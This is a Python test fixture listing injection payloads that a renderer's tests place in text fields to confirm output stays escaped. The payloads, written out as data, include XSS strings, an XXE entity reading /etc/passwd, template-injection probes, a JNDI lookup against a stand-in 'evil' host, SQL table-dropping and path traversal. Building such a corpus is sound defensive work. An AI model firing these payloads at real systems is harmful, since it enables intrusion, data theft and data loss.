"""Text that tries to become markup: the corpus the injection tests put in every text field.

Each payload targets one of the languages a process's text passes through
on its way to a reader — HTML and its attributes, SVG/XML, Graphviz's DOT
strings and HTML-like labels, GitHub-flavoured Markdown, Jinja2 templates,
Mermaid and BPMN exports — or tries to fool the reader (bidirectional
overrides, invisible joiners, words too long to wrap). Rendered, every one
must read exactly as written and do nothing else.

`URLS` are the addresses the payloads try to turn into links or images:
no rendered page may point at one of them.
"""

from __future__ import annotations

from typing import NamedTuple


class Payload(NamedTuple):
    name: str
    text: str


URLS = ("javascript:", "http://evil", "data:image/svg+xml", "file:///etc/passwd", "vbscript:")

PAYLOADS: tuple[Payload, ...] = (
    # HTML and JavaScript
    Payload("script", "<script>alert(1)</script>"),
    Payload("img-onerror", "<img src=x onerror=alert(1)>"),
    Payload("svg-onload", "<svg onload=alert(1)>"),
    Payload("svg-script", "<svg><script>alert(1)</script></svg>"),
    Payload("javascript-url", "javascript:alert(1)"),
    Payload("javascript-url-mixed-case", "JaVaScRiPt:alert(document.domain)"),
    Payload("javascript-url-entity", "&#106;avascript:alert(1)"),
    Payload("attr-double-quote", '" onmouseover="alert(1)'),
    Payload("attr-single-quote", "' onmouseover='alert(1)"),
    Payload("attr-close-script", "'><script>alert(1)</script>"),
    Payload("attr-close-img", '"><img src=x onerror=alert(1)>'),
    Payload("close-title", "</title><script>alert(1)</script>"),
    Payload("close-textarea", "</textarea><script>alert(1)</script>"),
    Payload("close-style", "</style><script>alert(1)</script>"),
    Payload("iframe", '<iframe src="javascript:alert(1)"></iframe>'),
    Payload("anchor", '<a href="javascript:alert(1)">click</a>'),
    Payload("details-ontoggle", "<details open ontoggle=alert(1)>"),
    Payload("body-onload", "<body onload=alert(1)>"),
    Payload("mutation-xss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    Payload("comment-script", "<!--<script>alert(1)</script>-->"),
    Payload("close-comment", "--><script>alert(1)</script>"),
    Payload("object", '<object data="javascript:alert(1)"></object>'),
    Payload("base-href", '<base href="http://evil/">'),
    Payload("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    Payload("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    Payload("angular-template", "{{constructor.constructor('alert(1)')()}}"),
    # SVG and XML
    Payload("xml-entity", "&xxe;"),
    Payload("doctype-entity", '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
    Payload("cdata-end", "]]>"),
    Payload("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    Payload("xml-stylesheet", '<?xml-stylesheet href="http://evil/x.xsl"?>'),
    Payload("pre-escaped", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    Payload("entities", "&amp; &#60; &#x3C; &nbsp;"),
    Payload("foreign-object", "<foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject>"),
    Payload("svg-use-data", "<use href=\"data:image/svg+xml,<svg id='x'><script>alert(1)</script></svg>#x\"/>"),
    Payload("svg-animate", "<animate attributeName=href to=javascript:alert(1)>"),
    # Graphviz DOT: record labels, HTML-like labels, escapes, statements
    Payload("dot-record", "a|b|c"),
    Payload("dot-record-nested", "{a|{b|c}}"),
    Payload("dot-ports", "<f0> left | <f1> right"),
    Payload("dot-justify", "left\\lright\\rcentre\\n"),
    Payload("dot-substitutions", "\\N \\G \\E \\T \\H \\L"),
    Payload("dot-quotes", 'say "hi" \\"x\\"'),
    Payload("dot-backslashes", "back\\slash \\\\ end\\"),
    Payload("dot-html-label", "<<b>bold</b>>"),
    Payload("dot-statement", '"]; x -> y; node [label="pwned'),
    Payload("dot-graph", "}; digraph evil { a -> b"),
    # Markdown
    Payload("md-table-pipes", "a | b | c"),
    Payload("md-escaped-pipe", "a \\| b"),
    Payload("md-backticks", "`code` and ``` fence"),
    Payload("md-fence", "```\nfenced\n```"),
    Payload("md-js-link", "[x](javascript:alert(1))"),
    Payload("md-image", "![x](http://evil/x.png)"),
    Payload("md-reference", "[x]: http://evil/"),
    Payload("md-autolink", "<http://evil/>"),
    Payload("md-details", "<details><summary>x</summary>y</details>"),
    Payload("md-heading", "# heading"),
    Payload("md-rule", "---"),
    Payload("md-list", "* item"),
    Payload("md-dash-list", "- item"),
    Payload("md-plus-list", "+ item"),
    Payload("md-ordered", "1. item"),
    Payload("md-ordered-paren", "1) item"),
    Payload("md-quote", "> quote"),
    Payload("md-emphasis", "**bold** _em_ ~~del~~ $math$"),
    Payload("md-table-newline", "one\n| a | b |\n| - | - |\ntwo"),
    # Jinja2
    Payload("jinja-expression", "{{ 7*7 }}"),
    Payload("jinja-statement", "{% for x in range(3) %}x{% endfor %}"),
    Payload("jinja-comment", "{# comment #}"),
    Payload("jinja-config", "{{ config.items() }}"),
    Payload("jinja-raw", "{% raw %}"),
    # Mermaid and BPMN
    Payload("mermaid-click", "A-->B; click A call alert(1)"),
    Payload("mermaid-init", '%%{init: {"securityLevel": "loose"}}%%'),
    Payload("mermaid-shapes", 'A["x"] --> B((y)) end'),
    Payload("bpmn-element", '<bpmn:task id="x"/>'),
    # Unicode that fools the reader
    Payload("rtl-override", "invoice\u202egnp.exe"),
    Payload("zero-width", "a\u200bb\u200cc\u200dd\u2060e"),
    Payload("emoji-zwj", "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308"),
    Payload("combining", "Z\u0334\u0321\u032aa\u0336l\u0337g\u0338o\u0335"),
    Payload("cjk-markup", "客户<b>投诉</b>处理"),
    Payload("long-word", "W" * 1000),
    # Other interpreters
    Payload("format-strings", "%s %n %x {0} ${jndi:ldap://evil/a}"),
    Payload("sql", "'; DROP TABLE steps; --"),
    Payload("path", "../../../etc/passwd C:\\Windows\\system32"),
    Payload("crlf", "first\r\nsecond"),
)
